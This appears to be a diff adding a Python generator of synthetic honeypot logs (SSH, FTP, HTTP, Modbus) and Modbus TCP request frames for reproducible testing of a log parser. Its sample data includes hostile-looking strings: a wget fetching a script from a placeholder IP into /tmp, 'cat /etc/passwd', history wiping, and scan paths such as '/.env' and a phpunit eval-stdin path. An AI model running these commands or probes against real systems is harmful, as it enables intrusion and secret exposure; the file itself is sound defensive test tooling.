@@ -0,0 +1,233 @@
+import os
+import json
+import random
+import struct
+from datetime import datetime, timedelta, timezone
+from typing import Dict, List
+
+# Deterministic synthetic logs, one generator per format in logParser.PATTERNS.
+# The same config and seed always produce the same lines, so results compare across commits.
+
+MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
+WEEKDAYS = ['Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat', 'Sun']
+
+USERS = ['root', 'admin', 'test', 'user', 'oracle', 'postgres', 'ubuntu', 'pi', 'ftpuser', 'guest']
+COMMANDS = [
+    'uname -a', 'id', 'whoami', 'cat /etc/passwd', 'ls -la /tmp', 'ps aux',
+    'wget http://203.0.113.7/x.sh -O /tmp/x.sh', 'chmod +x /tmp/x.sh', 'curl -s ipinfo.io',
+    'history -c', 'crontab -l', 'nproc'
+]
+BENIGN_PATHS = ['/', '/index.html', '/favicon.ico', '/robots.txt', '/css/style.css']
+SCAN_PATHS = [
+    '/wp-login.php', '/.env', '/admin', '/phpmyadmin/', '/.git/config', '/cgi-bin/luci',
+    '/actuator/health', '/server-status', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'
+]
+USER_AGENTS = [
+    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+    'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
+    'curl/8.4.0', 'python-requests/2.31.0', 'masscan/1.3', 'zgrab/0.x', 'Nmap Scripting Engine'
+]
+REFERERS = ['-', '-', '-', 'http://203.0.113.7/', 'https://www.google.com/']
+# Web servers behind melissae_proxy, logged as the last field of access.log
+UPSTREAMS = ['melissae_apache1', 'melissae_apache2']
+MODBUS_READS = ['Read Coils', 'Read Discrete Inputs', 'Read Holding Registers', 'Read Input Registers']
+MODBUS_WRITES = ['Write Single Coil', 'Write Single Register', 'Write Multiple Coils', 'Write Multiple Registers']
+
+# Relative volume of each format when generating a full honeypot
+DEFAULT_MIX = {'ssh_auth': 3, 'ssh_commands': 1, 'ftp': 1, 'http': 4, 'modbus': 1, 'modbus_events': 1}
+
+class GeneratorConfig:
+    def __init__(self, volume: int = 10000, ips: int = 500, attack_ratio: float = 0.3, seed: int = 1,
+                 mix: Dict[str, int] = None, start: datetime = None):
+        self.volume = volume
+        self.ips = ips
+        # Share of hostile lines (failed logins, scans, writes) versus background noise
+        self.attack_ratio = attack_ratio
+        self.seed = seed
+        self.mix = mix or dict(DEFAULT_MIX)
+        self.start = start or datetime(2025, 1, 1, tzinfo=timezone.utc)
+
+    def to_dict(self) -> Dict:
+        return {
+            "volume": self.volume,
+            "ips": self.ips,
+            "attack_ratio": self.attack_ratio,
+            "seed": self.seed,
+            "mix": self.mix
+        }
+
+# Shared building blocks
+def ip_pool(rng: random.Random, count: int) -> List[str]:
+    pool = set()
+    while len(pool) < count:
+        pool.add(f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
+    return sorted(pool)
+
+def pick_ips(rng: random.Random, pool: List[str], count: int) -> List[str]:
+    # Few noisy attackers and a long tail, like real honeypot traffic
+    weights = [1.0 / (rank + 1) for rank in range(len(pool))]
+    return rng.choices(pool, weights=weights, k=count)
+
+def timestamps(rng: random.Random, start: datetime, count: int) -> List[datetime]:
+    current = start
+    result = []
+    for _ in range(count):
+        current += timedelta(seconds=rng.randint(0, 5), microseconds=rng.randint(0, 999999))
+        result.append(current)
+    return result
+
+def _setup(config: GeneratorConfig, name: str, count: int):
+    rng = random.Random(f"{config.seed}-{name}")
+    pool = ip_pool(random.Random(config.seed), config.ips)
+    return rng, pick_ips(rng, pool, count), timestamps(rng, config.start, count)
+
+# Format generators
+def ssh_auth_lines(config: GeneratorConfig, count: int) -> List[str]:
+    rng, ips, times = _setup(config, 'ssh_auth', count)
+    lines = []
+    for ip, dt in zip(ips, times):
+        stamp = dt.strftime('%Y-%m-%dT%H:%M:%S.%f+00:00')
+        user = rng.choice(USERS)
+        port = rng.randint(1024, 65535)
+        if rng.random() < config.attack_ratio:
+            if rng.random() < 0.3:
+                message = f"Invalid user {user} from {ip} port {port}"
+            else:
+                message = f"Failed password for {user} from {ip} port {port} ssh2"
+        elif rng.random() < 0.2:
+            message = f"Accepted password for {user} from {ip} port {port} ssh2"
+        else:
+            message = f"Connection closed by {ip} port {port} [preauth]"
+        lines.append(f"{stamp} melissae sshd[{rng.randint(100, 65000)}]: {message}")
+    return lines
+
+def ssh_commands_lines(config: GeneratorConfig, count: int) -> List[str]:
+    rng, ips, times = _setup(config, 'ssh_commands', count)
+    lines = []
+    for number, (ip, dt) in enumerate(zip(ips, times), 1):
+        command = rng.choice(COMMANDS[6:] if rng.random() < config.attack_ratio else COMMANDS[:6])
+        lines.append(f"{dt.strftime('%Y-%m-%d %H:%M:%S')} | {ip} | {number:5d}  {command}")
+    return lines
+
+def ftp_lines(config: GeneratorConfig, count: int) -> List[str]:
+    rng, ips, times = _setup(config, 'ftp', count)
+    lines = []
+    for ip, dt in zip(ips, times):
+        stamp = f"{WEEKDAYS[dt.weekday()]} {MONTHS[dt.month - 1]} {dt.day:2d} {dt.strftime('%H:%M:%S %Y')}"
+        pid = rng.randint(100, 65000)
+        user = rng.choice(USERS)
+        roll = rng.random()
+        if roll < config.attack_ratio:
+            lines.append(f'{stamp} [pid {pid}] [{user}] FAIL LOGIN: Client "{ip}"')
+        elif roll < config.attack_ratio + 0.1:
+            lines.append(f'{stamp} [pid {pid}] [{user}] OK LOGIN: Client "{ip}"')
+        elif roll < config.attack_ratio + 0.15:
+            kind = rng.choice(['UPLOAD', 'DOWNLOAD'])
+            lines.append(f'{stamp} [pid {pid}] [{user}] OK {kind}: Client "{ip}", "/home/ftpuser/file{rng.randint(1, 99)}.bin", {rng.randint(1, 10 ** 6)} bytes, 1.00Kbyte/sec')
+        else:
+            lines.append(f'{stamp} [pid {pid}] CONNECT: Client "{ip}"')
+    return lines
+
+def http_lines(config: GeneratorConfig, count: int) -> List[str]:
+    rng, ips, times = _setup(config, 'http', count)
+    lines = []
+    for ip, dt in zip(ips, times):
+        if rng.random() < config.attack_ratio:
+            method, path, status = rng.choice(['GET', 'POST', 'HEAD']), rng.choice(SCAN_PATHS), 404
+        else:
+            method, path, status = 'GET', rng.choice(BENIGN_PATHS), 200
+        user_agent = rng.choice(USER_AGENTS)
+        referer = rng.choice(REFERERS)
+        upstream = rng.choice(UPSTREAMS)
+        lines.append(f'{ip} - - [{dt.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{method} {path} HTTP/1.1" {status} {rng.randint(100, 9000)} "{referer}" "{user_agent}" "{upstream}"')
+    return lines
+
+def modbus_lines(config: GeneratorConfig, count: int) -> List[str]:
+    rng, ips, times = _setup(config, 'modbus', count)
+    lines = []
+    for ip, dt in zip(ips, times):
+        stamp = dt.strftime('%Y-%m-%d %H:%M:%S')
+        roll = rng.random()
+        if roll < config.attack_ratio:
+            action = f"Write attempt - {rng.choice(MODBUS_WRITES)}"
+        elif roll < config.attack_ratio + 0.4:
+            action = f"Read request - {rng.choice(MODBUS_READS)}"
+        else:
+            action = rng.choice(['Connection established', 'Connection closed'])
+        lines.append(f"{stamp} | {ip} | {action}")
+    return lines
+
+def modbus_event_lines(config: GeneratorConfig, count: int) -> List[str]:
+    rng, ips, times = _setup(config, 'modbus_events', count)
+    lines = []
+    for transaction_id, (ip, dt) in enumerate(zip(ips, times)):
+        event = {"v": 1, "ts": round(dt.timestamp(), 6), "src": "modbus"}
+        roll = rng.random()
+        if roll < config.attack_ratio:
+            function_code = rng.choice([5, 6, 15, 16])
+            event.update(event="write_attempt", ip=ip, action=f"Write attempt - {MODBUS_WRITES[[5, 6, 15, 16].index(function_code)]}",
+                         fc=function_code, unit=1, tid=transaction_id & 0xFFFF, addr=rng.randrange(1000), qty=rng.randint(1, 32))
+        elif roll < config.attack_ratio + 0.4:
+            function_code = rng.randint(1, 4)
+            event.update(event="read", ip=ip, action=f"Read request - {MODBUS_READS[function_code - 1]}",
+                         fc=function_code, unit=1, tid=transaction_id & 0xFFFF, addr=rng.randrange(1000), qty=rng.randint(1, 125))
+        else:
+            kind = rng.choice(['connect', 'disconnect'])
+            event.update(event=kind, ip=ip, action='Connection established' if kind == 'connect' else 'Connection closed',
+                         port=rng.randint(1024, 65535))
+        lines.append(json.dumps(event, separators=(',', ':')))
+    return lines
+
+GENERATORS = {
+    'ssh_auth': ssh_auth_lines,
+    'ssh_commands': ssh_commands_lines,
+    'ftp': ftp_lines,
+    'http': http_lines,
+    'modbus': modbus_lines,
+    'modbus_events': modbus_event_lines
+}
+
+def split_volume(config: GeneratorConfig) -> Dict[str, int]:
+    total_weight = sum(config.mix.values()) or 1
+    return {name: config.volume * weight // total_weight for name, weight in config.mix.items() if name in GENERATORS}
+
+def write_honeypot_logs(config: GeneratorConfig, working_dir: str, sources: Dict[str, str]) -> Dict[str, int]:
+    """Write every module log under working_dir at the paths logParser reads, return lines per format"""
+    counts = split_volume(config)
+    for name, count in counts.items():
+        path = os.path.join(working_dir, sources[name])
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, 'w', encoding='utf-8') as f:
+            f.write('\n'.join(GENERATORS[name](config, count)))
+            f.write('\n')
+    return counts
+
+# Modbus TCP traffic (frames sent to the honeypot, not log lines)
+def modbus_requests(seed: int, count: int, write_ratio: float, size: int = 1000) -> List[tuple]:
+    """Mixed read/write request frames with the byte size of their expected response"""
+    rng = random.Random(f"{seed}-modbus-requests")
+    requests = []
+    for transaction_id in range(count):
+        if rng.random() < write_ratio:
+            function_code = rng.choice([5, 6, 15, 16])
+            if function_code == 5:
+                pdu = struct.pack('>BHH', 5, rng.randrange(size), rng.choice([0x0000, 0xFF00]))
+            elif function_code == 6:
+                pdu = struct.pack('>BHH', 6, rng.randrange(size), rng.randrange(65536))
+            elif function_code == 15:
+                quantity = rng.randint(1, 64)
+                values = bytes(rng.randrange(256) for _ in range((quantity + 7) // 8))
+                pdu = struct.pack('>BHHB', 15, rng.randrange(size - quantity), quantity, len(values)) + values
+            else:
+                quantity = rng.randint(1, 32)
+                pdu = struct.pack('>BHHB', 16, rng.randrange(size - quantity), quantity, quantity * 2)
+                pdu += struct.pack(f'>{quantity}H', *(rng.randrange(65536) for _ in range(quantity)))
+            response_size = 12
+        else:
+            function_code = rng.choice([1, 2, 3, 4])
+            quantity = rng.randint(1, 125)
+            pdu = struct.pack('>BHH', function_code, rng.randrange(size - quantity), quantity)
+            response_size = 9 + (quantity * 2 if function_code in (3, 4) else (quantity + 7) // 8)
+        frame = struct.pack('>HHHB', transaction_id & 0xFFFF, 0, len(pdu) + 1, 1) + pdu
+        requests.append((frame, response_size))
+    return requests